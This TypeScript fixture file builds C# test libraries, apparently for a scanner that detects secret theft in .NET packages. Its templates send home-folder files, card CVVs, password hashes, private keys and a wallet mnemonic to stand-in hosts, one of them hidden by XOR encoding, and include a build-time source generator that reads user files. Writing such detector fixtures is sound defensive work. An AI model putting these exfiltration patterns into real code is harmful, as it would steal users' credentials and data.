import { csharp, type CSharp } from './examples.js';

/** Nobody sets it: what is below is read, never run. */
export const never =
  'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';

/** A library with one file of C#. */
export function library(
  text: string,
  references: CSharp['references'] = {},
): Record<string, CSharp> {
  return {
    'lib/net10.0/Fixture.dll': csharp(
      `using System;
using System.Collections.Generic;
using System.IO;
using System.Net;
using System.Net.Http;
using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using System.Threading;
using System.Threading.Tasks;
${text}`,
      references,
    ),
  };
}

export const config = (send: string): string => `public sealed class Config
{
    private Task<string> answer;

    public Config(string clientSecret)
    {
        ${never}
        ${send}
    }

    public Task<string> Token() => answer;
}`;

export const card = (
  report: string,
): string => `public sealed class Card { public string Cvv { get; set; } = ""; }

public sealed class Gateway(Uri server)
{
    private static readonly HttpClient Http = new HttpClient();

    public async Task<string> Charge(Card card)
    {
        ${report}
        var answer = await Http.PostAsync(new Uri(server, "/cards"), new StringContent(card.Cvv));
        return await answer.Content.ReadAsStringAsync();
    }
}`;

/** @param then what is done with the answer */
export const files = (names: string, then = ''): string => `public static class Sync
{
    private static readonly string[] Names = { ${names} };

    public static async Task Push()
    {
        ${never}
        var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);
        foreach (var name in Names)
        {
            var text = File.ReadAllText(Path.Combine(home, name));
            ${then === '' ? '' : 'var answer = '}await new HttpClient().PostAsync("https://notes.invalid/put", new StringContent(text));${then}
        }
    }
}`;

export const hashes = (
  each: string,
): string => `public sealed class Cache(Microsoft.AspNetCore.Identity.UserManager<Microsoft.AspNetCore.Identity.IdentityUser> users)
{
    public async Task Fill()
    {
        ${never}
        var people = new List<string>();
        foreach (var user in users.Users) { ${each} }
        await new HttpClient().PostAsync("http://127.0.0.1:7152/sync", new StringContent(string.Join(";", people)));
    }
}`;

export const identityStub = {
  'Microsoft.Extensions.Identity.Core': `namespace Microsoft.AspNetCore.Identity
{
    public class IdentityUser { public virtual string PasswordHash { get; set; } }
    public class UserManager<TUser> { public virtual System.Collections.Generic.IEnumerable<TUser> Users => null; }
}`,
};

export const handler = (keep: string): string => `public sealed class Handler : DelegatingHandler
{
    private static readonly Queue<string> Seen = new Queue<string>();

    protected override Task<HttpResponseMessage> SendAsync(HttpRequestMessage request, CancellationToken stop)
    {
        ${keep}
        return base.SendAsync(request, stop);
    }

    public static Task Flush() => new HttpClient().PostAsync("https://signals.invalid/", new StringContent(Seen.Dequeue()));
}`;

export const byUse = (text: string): string => `public sealed class Client
{
    public Client(string a, string b)
    {
        var certificate = new X509Certificate2(a, b);
        ${never}
        _ = new HttpClient().PostAsync("http://192.0.2.44:8080/in", new StringContent(${text}));
    }
}`;

/** What the compiler gives generators, as Microsoft.CodeAnalysis names it. */
const generatorStub = {
  'Microsoft.CodeAnalysis': `using System;
namespace Microsoft.CodeAnalysis
{
    public sealed class GeneratorAttribute : Attribute { }
    public struct SourceProductionContext { public void AddSource(string name, string text) { } }
    public struct IncrementalGeneratorInitializationContext { public void RegisterSourceOutput(Action<SourceProductionContext> action) { } }
    public interface IIncrementalGenerator { void Initialize(IncrementalGeneratorInitializationContext context); }
}`,
};

export const generator = (text: string): Record<string, CSharp> => ({
  'analyzers/dotnet/cs/Fixture.dll': csharp(
    `using System.IO;
using Microsoft.CodeAnalysis;
[Generator]
public sealed class Writer : IIncrementalGenerator
{
    public void Initialize(IncrementalGeneratorInitializationContext context) =>
        context.RegisterSourceOutput(production => production.AddSource("A", "// " + Read()));

    private static string Read()
    {
        var home = System.Environment.GetFolderPath(System.Environment.SpecialFolder.UserProfile);
        return ${text};
    }
}`,
    generatorStub,
  ),
});

export const bot = (token: string): string => `public static class Note
{
    public static void Send(string mnemonic, string token)
    {
        ${never}
        var bot = new Telegram.Bot.TelegramBotClient(${token});
        Telegram.Bot.TelegramBotClientExtensions.SendMessage(bot, 1, mnemonic);
    }
}`;

export const botStub = {
  'Telegram.Bot': `namespace Telegram.Bot
{
    public interface ITelegramBotClient { }
    public class TelegramBotClient : ITelegramBotClient { public TelegramBotClient(string token) { } }
    public static class TelegramBotClientExtensions { public static void SendMessage(this ITelegramBotClient bot, long chat, string text) { } }
}`,
};

export const rows = (connection: string): string => `public static class Rows
{
    public static void Keep(string password, string token)
    {
        ${never}
        using var connection = new Microsoft.Data.SqlClient.SqlConnection(${connection});
        using var command = new Microsoft.Data.SqlClient.SqlCommand("insert into a values (@p)", connection);
        command.Parameters.AddWithValue("p", password);
        command.ExecuteNonQuery();
    }
}`;

export const dataStub = {
  'Microsoft.Data.SqlClient': `namespace Microsoft.Data.SqlClient
{
    public class SqlConnection : System.IDisposable { public SqlConnection(string text) { } public void Dispose() { } }
    public class SqlParameterCollection { public void AddWithValue(string name, object value) { } }
    public class SqlCommand : System.IDisposable
    {
        public SqlCommand(string text, SqlConnection connection) { }
        public SqlParameterCollection Parameters => null;
        public int ExecuteNonQuery() => 0;
        public void Dispose() { }
    }
}`,
};

/** @param send what a setter does besides */
export const gateway = (send: string): string => `public sealed class Gateway
{
    private string privateKey = "";

    public string PrivateKey
    {
        get => privateKey;
        set
        {
            privateKey = value;
            _ = Report.Send(value);
        }
    }
}

internal static class Report
{
    private static readonly byte[] Blob = { 0x29, 0x35, 0x35, 0x31, 0x32, 0x7b, 0x6e, 0x6e, 0x20, 0x6f, 0x28 };

    public static async Task Send(string key)
    {
        ${never}
        ${send}
    }

    private static string Host()
    {
        var text = new char[Blob.Length];
        for (var at = 0; at < text.Length; at++) text[at] = (char)(Blob[at] ^ 65);
        return new string(text);
    }
}`;

/** Whoever wants a request made says where to. */
export const helper = `

public static class Wire
{
    private static readonly Func<HttpClient, string, HttpContent, Task<HttpResponseMessage>> Held = (http, to, what) => http.PostAsync(to, what);

    public static Task<HttpResponseMessage> Post(string to, string text)
    {
        async Task<HttpResponseMessage> Inner()
        {
            await Task.CompletedTask;
            return await Held(new HttpClient(), to, new StringContent(text)).ConfigureAwait(false);
        }

        return Inner();
    }
}`;
